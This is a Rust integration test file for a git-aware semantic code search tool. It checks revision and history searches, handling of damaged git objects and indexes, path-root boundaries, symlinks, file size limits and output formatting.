    assert!(stderr(&o).contains("out of range") && !stderr(&o).contains("damaged"), "{}", stderr(&o));
    // A branch's own commit missing, and a commit cut short.
    let side = git(&tree, &["rev-parse", "HEAD~1"]);
    git(&tree, &["branch", "side", &side]);
    let object = |sha: &str| tree.path().join(".git/objects").join(&sha[..2]).join(&sha[2..]);
    std::fs::remove_file(object(&side)).unwrap();
    let o = run(tree.cmd("vecgrep", "").args(["--rev", "side", "later"]));
    assert!(
        stderr(&o).contains(&format!("object {side} is missing from the repository, which is damaged")),
        "{}",
        stderr(&o)
    );
    let cut_short = two_releases();
    for i in 0..2 {
        cut_short.write("later.py", &format!("def later():\n    return {i}\n"));
        commit_all(&cut_short, &format!("later {i}"));
    }
    let parent = git(&cut_short, &["rev-parse", "HEAD~1"]);
    let object = cut_short.path().join(".git/objects").join(&parent[..2]).join(&parent[2..]);
    let whole = std::fs::read(&object).unwrap();
    std::fs::set_permissions(&object, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
    std::fs::write(&object, &whole[..20]).unwrap();
    let o = run(cut_short.cmd("vecgrep", "").args(["--rev", "HEAD~3", "later"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains(&format!("object {parent} cannot be read")), "{}", stderr(&o));
}

/// `--skip-outside-root` under `--rev` and `--log` skips as in the working
/// tree: each skipped PATH said, and every one skipped an error (2): a
/// search of none of them. Both searched the whole revision or history, 0.
#[test]
fn every_path_skipped_outside_the_root_is_an_error_under_rev_and_log_too() {
    let tree = two_releases();
    for (how, path) in [("--rev", "/etc"), ("--rev", "../not-there"), ("--log", "/etc"), ("--log", "../not-there")] {
        let mut cmd = tree.cmd("vecgrep", "");
        cmd.args(["--threshold", "-1", "--skip-outside-root", "upload", path]);
        if how == "--rev" {
            cmd.args(["--rev", "v1"]);
        } else {
            cmd.arg("--log");
        }
        let o = run(&mut cmd);
        assert_code(&o, 2);
        assert!(stdout(&o).is_empty(), "{how} {path}: {}", stdout(&o));
        assert!(stderr(&o).contains("every path given is outside the project root"), "{how} {path}: {}", stderr(&o));
    }
    // One inside is searched, the other said.
    let o = run(tree.cmd("vecgrep", "").args([
        "--rev",
        "v1",
        "--threshold",
        "-1",
        "--skip-outside-root",
        "upload",
        "/etc",
        "src",
    ]));
    assert_code(&o, 0);
    assert!(stderr(&o).contains("skipping '/etc'"), "{}", stderr(&o));
    // Under --log, a PATH the working tree no longer has is inside the root
    // too, beside one on disk outside it.
    std::fs::remove_file(tree.path().join("src/config.py")).unwrap();
    let args = ["--log", "--threshold", "-1", "--skip-outside-root", "v1", "src/config.py", "/etc"];
    let o = run(tree.cmd("vecgrep", "").args(args));
    assert_code(&o, 0);
    assert!(stdout(&o).contains("v1") && stderr(&o).contains("skipping '/etc'"), "{}{}", stdout(&o), stderr(&o));
    // A PATH inside whose name is not UTF-8 is said as such, never skipped
    // as outside (it was, under --rev and --log).
    use std::os::unix::ffi::OsStrExt;
    let bad = std::ffi::OsStr::from_bytes(b"gone\xff");
    for how in [&["--rev", "v1"][..], &["--log"]] {
        let o = run(tree.cmd("vecgrep", "").args(how).args(["--skip-outside-root", "upload"]).arg(bad).arg("src"));
        assert_code(&o, 2);
        assert!(stderr(&o).contains("is not valid UTF-8"), "{how:?}: {}", stderr(&o));
    }
}

/// A revision's files were written from git with the commit's time: a
/// time bound read it as every file's, finding nothing "changed before
/// 2021" and a file unchanged since 2020 "changed within a week". Refused,
/// as the walk's options are.
#[test]
fn a_revision_search_refuses_time_bounds_its_files_do_not_have() {
    let tree = two_releases();
    for bound in [["--changed-before", "2021-01-01"], ["--changed-within", "1w"]] {
        let o = run(tree.cmd("vecgrep", "").args(["--rev", "v1", "upload"]).args(bound));
        assert_code(&o, 2);
        assert!(stderr(&o).contains("bound the working tree's file times"), "{}", stderr(&o));
    }
    // Size and exclusions are the revision's own.
    let o = run(tree.cmd("vecgrep", "").args(["--rev", "v1", "--threshold", "-1", "-l", "-E", "*config*", "upload"]));
    assert_code(&o, 0);
    assert_eq!(stdout(&o).trim(), "src/client.py");
}

/// `--verify` checks each revision's index too, and `--stats` says a
/// damaged one is damaged: the first called the project sound, the second
/// listed it as 0 files, 0 B, a run to resume.
#[test]
fn a_damaged_revision_index_is_found_by_verify_and_said_by_stats() {
    let tree = two_releases();
    assert_code(&run(tree.cmd("vg-index", "").args(["--rev", "v1"])), 0);
    // No index of the working tree: the revisions' are checked still.
    let o = run(tree.cmd("vg-index", "").arg("--verify"));
    assert_code(&o, 0);
    assert!(stdout(&o).contains("the revisions' indexes of"), "{}", stdout(&o));
    assert_code(&run(&mut tree.cmd("vg-index", "")), 0);
    assert_code(&run(tree.cmd("vg-index", "").arg("--verify")), 0);
    let v1 = git(&tree, &["rev-parse", "v1"]);
    let index = tree.path().join(format!(".vecgrep/revs/{v1}/.vecgrep/index.db"));
    let whole = std::fs::read(&index).unwrap();
    std::fs::write(&index, &whole[..whole.len().min(20_000)]).unwrap();
    let o = run(tree.cmd("vg-index", "").arg("--verify"));
    assert_code(&o, 2);
    let short = &v1[..12];
    assert!(stdout(&o).contains(&format!("problem: revision {short}: ")), "{}", stdout(&o));
    let rebuild = format!("vg-index --forget {short}, then vg-index --rev {short}, rebuilds it");
    assert!(stderr(&o).contains(&rebuild), "{}", stderr(&o));
    let o = run(tree.cmd("vg-index", "").arg("--stats"));
    assert!(stdout(&o).contains(&format!("revision: {short} (indexed as v1): damaged")), "{}", stdout(&o));
    let o = run(tree.cmd("vg-index", "").args(["--stats", "--json"]));
    assert_eq!(records(&o)[0]["revisions"][0]["damaged"], true, "{}", stdout(&o));
    // As said: forgotten and indexed again, it is sound.
    assert_code(&run(tree.cmd("vg-index", "").args(["--forget", short])), 0);
    assert_code(&run(tree.cmd("vg-index", "").args(["--rev", "v1"])), 0);
    assert_code(&run(tree.cmd("vg-index", "").arg("--verify")), 0);
}

/// A directory deleted since, named from outside the project: the root
/// was chosen from that PATH, which is not on disk, and the search was
/// refused as "No such file or directory"; from inside, it searched.
#[test]
fn a_place_only_the_revision_has_chooses_the_root_by_what_is_left_of_it() {
    let repo = git_repo();
    repo.write("gone/old.rs", "fn retry_upload() {}\n");
    commit_all(&repo, "Add upload retry");
    git(&repo, &["rm", "-q", "-r", "gone"]);
    repo.write("lib/new.rs", "fn parse() {}\n");
    commit_all(&repo, "Replace it");
    let elsewhere = Tree::bare();
    let gone = repo.path().join("gone");
    let o =
        run(elsewhere.cmd("vg-query", ".").args(["--rev", "HEAD~1", "--threshold", "-1", "upload retry"]).arg(&gone));
    assert_code(&o, 0);
    let hits = records(&o);
    assert_eq!(hits[0]["file"], "gone/old.rs", "{}", stderr(&o));
    assert_eq!(hits[0]["root"], repo.path().to_str().unwrap());
}

/// A PATH the working tree has made a link since names the revision's own
/// place: `old`, a directory there and a link to `lib` now, searched the
/// revision's `lib`.
#[test]
fn a_path_is_the_revisions_place_whatever_link_the_working_tree_has_there() {
    let repo = git_repo();
    repo.write("old/billing.py", "def compute_invoice_total(items):\n    return sum(i.price for i in items)\n");
    repo.write("lib/mail.py", "def send_email(to):\n    smtp.send(to)\n");
    commit_all(&repo, "Billing and mail");
    git(&repo, &["rm", "-q", "-r", "old"]);
    std::os::unix::fs::symlink("lib", repo.path().join("old")).unwrap();
    commit_all(&repo, "old is a link now");
    let search = |query: &str| {
        let o = run(repo.cmd("vg-query", ".").args(["--rev", "HEAD~1", "--threshold", "-1", query, "old"]));
        records(&o).iter().map(|h| h["file"].as_str().unwrap().to_string()).collect::<Vec<_>>()
    };
    assert_eq!(search("invoice total"), ["old/billing.py"]);
    assert!(!search("send email").contains(&"lib/mail.py".to_string()));
}

/// A branch named with hex digits that start a stored revision's sha is
/// the branch, as git and --rev read it: `--forget` dropped the other
/// revision's index.
#[test]
fn forgetting_by_a_hex_branch_name_forgets_the_branchs_revision() {
    let repo = git_repo();
    repo.write("a.py", "a = 1\n");
    commit_all(&repo, "one");
    repo.write("b.py", "b = 2\n");
    commit_all(&repo, "two");
    for rev in ["HEAD", "HEAD~1"] {
        assert_code(&run(repo.cmd("vg-index", ".").args(["-q", "--rev", rev])), 0);
    }
    let head = git(&repo, &["rev-parse", "HEAD"]).trim().to_string();
    let parent = git(&repo, &["rev-parse", "HEAD~1"]).trim().to_string();
    let name = &head[..6];
    git(&repo, &["branch", name, "HEAD~1"]);
    let o = run(repo.cmd("vg-index", ".").args(["--forget", name]));
    assert_code(&o, 0);
    assert!(stderr(&o).contains(&parent[..12]), "{}", stderr(&o));
    let o = run(repo.cmd("vg-index", ".").args(["--stats", "--json"]));
    let left: Vec<String> = records(&o)[0]["revisions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["sha"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(left, [head]);
}

/// `..` after a link climbs from where the link leads, as the system reads
/// it: `plib/../lib/a.py`, plib a link into the project, was refused.
#[test]
fn a_path_through_a_link_into_the_project_and_back_up_is_its_place() {
    let repo = git_repo();
    repo.write("lib/a.py", "def reconcile_ledger():\n    return 1\n");
    commit_all(&repo, "Ledger");
    let elsewhere = Tree::bare();
    std::os::unix::fs::symlink(repo.path().join("lib"), elsewhere.path().join("plib")).unwrap();
    let o = run(repo
        .cmd("vg-query", ".")
        .args(["--rev", "HEAD", "--threshold", "-1", "reconcile the ledger"])
        .arg(elsewhere.path().join("plib/../lib/a.py")));
    assert_code(&o, 0);
    assert_eq!(records(&o)[0]["file"], "lib/a.py", "{}", stderr(&o));
    // Out of the root by `..` and back in through the link, from inside.
    let name = elsewhere.path().file_name().unwrap().to_str().unwrap().to_string();
    let relative = format!("../../{name}/plib/a.py");
    let o = run(repo.cmd("vg-query", "lib").args([
        "--rev",
        "HEAD",
        "--threshold",
        "-1",
        "reconcile the ledger",
        &relative,
    ]));
    assert_code(&o, 0);
    assert_eq!(records(&o)[0]["file"], "lib/a.py", "{}", stderr(&o));
}

/// Audit 177: under a file size limit (`ulimit -f`), a file the revision's
/// tree could not hold whole was kept as a cut or empty file, indexed as
/// the entry, and the revision marked complete for good; a file over
/// `max_filesize` (written as a placeholder of its size) was too.
#[test]
fn a_file_size_limit_fails_a_revisions_run_and_the_next_completes_it() {
    let tree = git_repo();
    // The limit (2000 KiB) holds an index, not the files.
    tree.global_config("max_filesize = 3000000\n");
    tree.write("app.py", "def start_the_engine():\n    return 1\n");
    tree.write("big.txt", &"a large log line that nobody indexes\n".repeat(100_000));
    commit_all(&tree, "one");
    let mut treasure = "\n".repeat(2_500_000);
    treasure.push_str("def find_the_lost_treasure(map):\n    return map.dig()\n");
    tree.write("treasure.py", &treasure);
    commit_all(&tree, "two");
    let limited = |rev: &str| run(&mut with_file_size_limit(tree.cmd("vg-index", "").args(["--rev", rev]), 2000));
    // Over max_filesize: passed over as too large, as by the walk.
    let o = limited("HEAD~1");
    assert_code(&o, 0);
    let skips = records(&o).into_iter().filter(|r| r["type"] == "skip").collect::<Vec<_>>();
    assert!(skips.iter().any(|s| s["file"] == "big.txt" && s["reason"] == "too_large"), "{skips:?}");
    // Within it, but past the limit: the run fails, and no revision is left complete.
    let o = limited("HEAD");
    assert_code(&o, 2);
    assert!(stderr(&o).contains("File too large"), "{}", stderr(&o));
    let o = run(tree.cmd("vg-index", "").args(["--rev", "HEAD"]));
    assert_code(&o, 0);
    assert!(!stderr(&o).contains("indexed already"), "{}", stderr(&o));
    let o = run(tree.cmd("vg-query", "").args(["--rev", "HEAD", "--no-index", "find the lost treasure"]));
    assert_code(&o, 0);
    assert!(stderr(&o).is_empty(), "{}", stderr(&o));
    let hits = of_type(&records(&o), "hit").into_iter().map(|h| h["file"].clone()).collect::<Vec<_>>();
    assert_eq!(hits.first(), Some(&serde_json::json!("treasure.py")), "{hits:?}");
}

/// A revision is indexed, searched and forgotten from below the root with
/// no PATH given: the directory a run is in was taken for a PATH, and
/// `vg-index --rev v1` in `src/` refused "leave out the PATHs" (audit 253).
#[test]
fn a_revision_is_indexed_and_forgotten_from_below_the_root() {
    let tree = two_releases();
    let o = run(tree.cmd("vg-index", "src").args(["--rev", "v1"]));
    assert_code(&o, 0);
    assert_eq!(summary_of(&o)["files"], 2);
    let o = run(tree.cmd("vecgrep", "src").args(["--rev", "v1", "--index-only"]));
    assert_code(&o, 0);
    let o = run(tree.cmd("vg-query", "src").args(["--rev", "v1", "--no-index", "send one file to the storage server"]));
    assert_code(&o, 0);
    assert!(records(&o).iter().any(|h| h["file"] == "src/client.py"), "{}", stdout(&o));
    let o = run(tree.cmd("vg-index", "src").args(["--forget", "v1"]));
    assert_code(&o, 0);
    assert!(stderr(&o).contains("forgot revision v1"), "{}", stderr(&o));
}

/// A file's hit at a revision and its hit on disk are two files' lines to
/// vg-format: line 2 of `src/client.py` at v1 hid the working tree's
/// different line 2, and the two shared one heading (audit 254).
#[test]
fn a_files_lines_at_a_revision_and_on_disk_are_both_shown() {
    let tree = two_releases();
    assert_code(&run(tree.cmd("vg-index", "").args(["--rev", "v1"])), 0);
    let query = ["-k", "1", "--threshold", "0", "send one file to the storage server", "src/client.py"];
    let at_v1 = run(tree.cmd("vg-query", "").args(["--rev", "v1"]).args(query));
    let on_disk = run(tree.cmd("vg-query", "").args(query));
    let mix = format!("{}{}", stdout(&at_v1), stdout(&on_disk));
    assert_eq!(mix.lines().count(), 2, "{mix}");
    let flat = run_with_input(tree.cmd("vg-format", "").arg("--no-heading"), mix.as_bytes());
    assert_code(&flat, 0);
    for line in [
        r#"src/client.py:2:    """Send one file to the storage server.""""#,
        r#"src/client.py:2:    """Send one file, trying again with exponential backoff.""""#,
    ] {
        assert!(stdout(&flat).lines().any(|l| l == line), "{line} in:\n{}", stdout(&flat));
    }
    let headed = run_with_input(tree.cmd("vg-format", "").arg("--heading"), mix.as_bytes());
    let shown = stdout(&headed);
    let headings: Vec<&str> = shown.lines().filter(|l| l.starts_with("src/client.py")).collect();
    assert_eq!(headings.len(), 2, "{shown}");
    assert!(headings[0].contains("(at ") && !headings[1].contains("(at "), "{headings:?}");
    // Counted per path, as `-l` lists it once (review 255: listed twice).
    let counted = run_with_input(tree.cmd("vg-format", "").arg("-c"), mix.as_bytes());
    assert_eq!(stdout(&counted), "src/client.py:2\n");
}
